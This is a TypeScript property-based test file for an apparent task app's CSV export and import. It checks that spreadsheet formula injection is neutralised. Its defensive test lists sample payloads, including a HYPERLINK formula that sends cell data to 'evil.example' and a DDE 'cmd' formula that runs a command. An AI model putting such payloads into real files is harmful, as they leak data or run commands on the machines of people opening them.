import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { intlTimeZone, normalizeRepeat, ZonedCalendar, type Task } from '@mindflow/shared';
import { arbitraryTask } from '@mindflow/shared/testing';
import { neutraliseCell, restoreCell } from './csv-cells.ts';
import { readCsvRecords } from './csv-records.ts';
import { readStoredTasksCsv } from './stored-tasks-csv.ts';
import { readTasksCsv, writeTasksCsvFile } from './task-csv.ts';

const context = {
  calendar: new ZonedCalendar(intlTimeZone, 'America/New_York'),
  now: Date.parse('2026-11-25T14:00:00Z'),
};
const isRepeat = (r: string) => normalizeRepeat(r).ok;

function csvParse(text: string): string[][] {
  return parse(text, { relax_column_count: true, skip_empty_lines: true, bom: true });
}

/** The file `migrate --to csv:` (and so the add-on's export layout) writes for `tasks`. */
async function exported(tasks: Task[]): Promise<string> {
  const file = join(mkdtempSync(join(tmpdir(), 'mindflow-csv-')), 'tasks.csv');
  await writeTasksCsvFile(file, tasks);
  return readFileSync(file, 'utf8');
}

const uniqueTasks = fc
  .array(arbitraryTask(), { maxLength: 25 })
  .map((ts) => [...new Map(ts.map((t) => [t.id, t])).values()]);

/** Text that starts like a spreadsheet formula: the quick road leaves such files alone. */
const formulaLike = (t: Task) =>
  [t.title, t.description ?? '', t.tags.join(', ')].some((c) => /^['=+\-@\t\r]/.test(c));

// Pieces of CSV text, some well-formed and some not, glued at random.
const csvPiece = fc.constantFrom(
  'a',
  'b c',
  ',',
  '\n',
  '\r\n',
  '\r',
  '"',
  '""',
  '"x,y"',
  '"two\nlines"',
  '"say ""hi"""',
  ' ',
  '\ufeff',
  'é',
);

describe('csv-records', () => {
  describe('readCsvRecords', () => {
    it('reads what csv-parse reads, wherever it is sure', () => {
      fc.assert(
        fc.property(fc.array(csvPiece, { maxLength: 30 }), (pieces) => {
          const text = pieces.join('');
          const quick = readCsvRecords(text);
          if (quick === null) return;
          expect(quick).toEqual(csvParse(text));
        }),
        { numRuns: 3000 },
      );
    });

    it('is sure of the files MindFlow writes, with LF or CRLF line ends', () => {
      const text = 'title,description\nA,"two\r\nlines"\r\n';
      expect(readCsvRecords(text)).toBeNull(); // mixed line ends: csv-parse's call
      const crlf = 'title,description\r\nA,"two\nlines"\r\n\r\nB,\r\n';
      expect(readCsvRecords(crlf)).toEqual(csvParse(crlf));
    });
  });
});

describe('stored-tasks-csv', () => {
  describe('readStoredTasksCsv', () => {
    it('reads an export the quick way, with exactly the tasks the lenient reader gives', async () => {
      await fc.assert(
        fc.asyncProperty(uniqueTasks, async (tasks) => {
          const text = await exported(tasks);
          const quick = readStoredTasksCsv(text, { isRepeat });
          const lenient = readTasksCsv(text, context);
          expect(lenient.problems).toEqual([]);
          if (quick !== null) expect(quick).toEqual(lenient.tasks);
          // The quick road is for exactly this kind of file: it must not give up on it.
          if (!tasks.some(formulaLike)) expect(quick).not.toBeNull();
        }),
        { numRuns: 200 },
      );
    });

    it('gives up (null) on any file with a row it is not sure of, never a different answer', async () => {
      await fc.assert(
        fc.asyncProperty(
          uniqueTasks,
          fc.array(
            fc.tuple(
              fc.nat(),
              fc.constantFrom('\n', ',', '"', ',,\n', '\nHand typed,high\n', '\n\n', '\r\n'),
            ),
            {
              maxLength: 3,
            },
          ),
          async (tasks, edits) => {
            let text = await exported(tasks);
            for (const [at, piece] of edits) {
              const i = at % (text.length + 1);
              text = text.slice(0, i) + piece + text.slice(i);
            }
            const quick = readStoredTasksCsv(text, { isRepeat });
            if (quick === null) return;
            const lenient = readTasksCsv(text, context);
            expect(lenient.problems).toEqual([]);
            expect(quick).toEqual(lenient.tasks);
          },
        ),
        { numRuns: 300 },
      );
    });

    it('reads 5,000 exported tasks back unchanged (an empty description is no description)', async () => {
      const tasks = fc.sample(arbitraryTask(), { numRuns: 8000, seed: 7 });
      const plain = tasks.filter((t) => !formulaLike(t));
      const unique = [...new Map(plain.map((t) => [t.id, t])).values()].slice(0, 5000);
      expect(unique).toHaveLength(5000);
      expect(readStoredTasksCsv(await exported(unique), { isRepeat })).toEqual(
        unique.map((t) => ({ ...t, description: t.description || null })),
      );
    });

    it('writes no cell a spreadsheet evaluates, and reads every one back as it was (CWE-1236)', async () => {
      const payloads = [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        '+1+1',
        '-2+3',
        '@SUM(A1:A9)',
        "=cmd|' /C calc'!A0",
        "'=already protected by hand",
        "''+two apostrophes",
        "'just an apostrophe",
        'plain = text - with + signs @ inside',
      ];
      const base = fc
        .sample(arbitraryTask(), { numRuns: 40, seed: 11 })
        .filter((t) => !formulaLike(t));
      const tasks = payloads.map((p, i) => ({
        ...base[i]!,
        title: p,
        description: i % 2 === 0 ? `=${p}` : `\t${p}`,
        tags: [],
      }));
      const text = await exported(tasks);
      for (const record of csvParse(text)) {
        for (const cell of record) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(text).not.toContain('\n=');
      const lenient = readTasksCsv(text, context);
      expect(lenient.problems).toEqual([]);
      expect(lenient.tasks.map((t) => t.title)).toEqual(payloads);
      expect(lenient.tasks.map((t) => t.description)).toEqual(tasks.map((t) => t.description));
      const quick = readStoredTasksCsv(text, { isRepeat });
      if (quick !== null) expect(quick).toEqual(lenient.tasks);
    });

    it('neutralises and restores any text losslessly (property)', () => {
      const start = fc.constantFrom('', "'", "''", '=', '+', '-', '@', '\t', '\r', 'a', ' ');
      fc.assert(
        fc.property(fc.tuple(start, start, fc.string()), ([a, b, rest]) => {
          const cell = a + b + rest;
          const written = neutraliseCell(cell);
          expect(written).not.toMatch(/^[=+\-@\t\r]/);
          expect(restoreCell(written)).toBe(cell);
        }),
        { numRuns: 2000 },
      );
    });

    it('leaves hand-typed rows, repeats it cannot check and repeated ids to the lenient reader', () => {
      const header = 'id,title,status,priority,created_at,updated_at,repeat\n';
      const row = (id: string, repeat = '') =>
        `00000000-0000-4000-8000-00000000000${id},Task ${id},pending,3,2026-01-01T00:00:00Z,2026-01-01T00:00:00Z,${repeat}\n`;
      expect(readStoredTasksCsv(header + row('1') + row('2'))).toHaveLength(2);
      expect(readStoredTasksCsv(header + row('1') + ',Typed by hand,,high,,,\n')).toBeNull();
      expect(readStoredTasksCsv(header + row('1', 'FREQ=DAILY'))).toBeNull();
      expect(readStoredTasksCsv(header + row('1', 'FREQ=DAILY'), { isRepeat })).toHaveLength(1);
      expect(readStoredTasksCsv(header + row('1') + row('1'))).toBeNull();
      expect(readStoredTasksCsv('name,priority\nx,3\n')).toBeNull();
    });
  });
});
